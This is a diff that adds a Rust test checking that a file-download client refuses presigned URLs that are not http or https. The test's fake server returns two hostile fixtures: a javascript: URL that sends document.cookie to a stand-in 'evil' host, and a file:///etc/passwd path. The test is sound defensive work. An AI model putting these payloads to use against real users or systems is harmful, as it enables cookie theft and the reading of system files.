@@ -544,3 +544,27 @@ async fn an_odd_size_in_one_entry_is_unknown_not_a_failed_listing() {
     .collect();
     assert_eq!(sizes, want);
 }
+
+/// A "download link" is http or https: a server answering `javascript:` or `file:` gets
+/// an error, never a URL fetched or copied to the clipboard as a link (`Y`).
+#[tokio::test]
+async fn a_presigned_url_that_is_not_http_is_refused() {
+    let fake = Fake::start(|r| match (r.method.as_str(), r.path.as_str()) {
+        ("GET", "/v1/files/download") => {
+            let url = match r.q("key") {
+                "js" => "javascript:fetch(\"//evil/\"+document.cookie)",
+                _ => "file:///etc/passwd",
+            };
+            answer(200, json!({"url": url, "expires_in": 3600}))
+        }
+        _ => not_found(),
+    })
+    .await;
+    let client = fake.client(|_| {});
+    for key in ["js", "file"] {
+        match client.download_link("ws", key).await {
+            Err(ApiError::Protocol(why)) => assert!(why.contains("unusable"), "{why}"),
+            other => panic!("{key}: expected a refusal, got {other:?}"),
+        }
+    }
+}
